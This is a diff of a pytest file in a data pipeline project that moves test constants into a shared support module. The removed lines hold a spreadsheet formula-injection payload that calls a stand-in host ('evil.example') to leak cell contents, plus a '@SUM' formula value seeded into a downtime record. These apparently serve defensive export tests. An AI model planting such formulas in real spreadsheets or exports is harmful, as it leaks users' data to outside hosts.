@@ -10,15 +10,12 @@ import pytest
 from oee_pipelines.resources.lake import LakeResource
 from oee_pipelines.resources.published import PublishedFilesResource
 from oee_pipelines.resources.warehouse import WarehouseResource
-from oee_pipelines_tests.api.conftest import build_lake, seed_warehouse
-
-HOSTILE_DESCRIPTION = '=HYPERLINK("http://evil.example/?leak="&A1,"details")'
-HOSTILE_DOWNTIME_SQL = """
-INSERT INTO oee_downtime_events (org_id, machine_id, line_id, start_time, end_time, duration_minutes,
-                                 is_planned, reason_code, description, is_resolved, source_system)
-VALUES ('acme', 'MACHINE-A01', 'LINE-A1', '2025-01-02T11:00Z', '2025-01-02T11:05Z', 5, false, '@SUM(1+1)',
-        %s, true, 'import')
-"""
+from oee_pipelines_tests.support.tenant_warehouse import (
+    HOSTILE_DESCRIPTION,
+    HOSTILE_DOWNTIME_SQL,
+    build_lake,
+    seed_warehouse,
+)
 
 
 @pytest.fixture(scope="module")
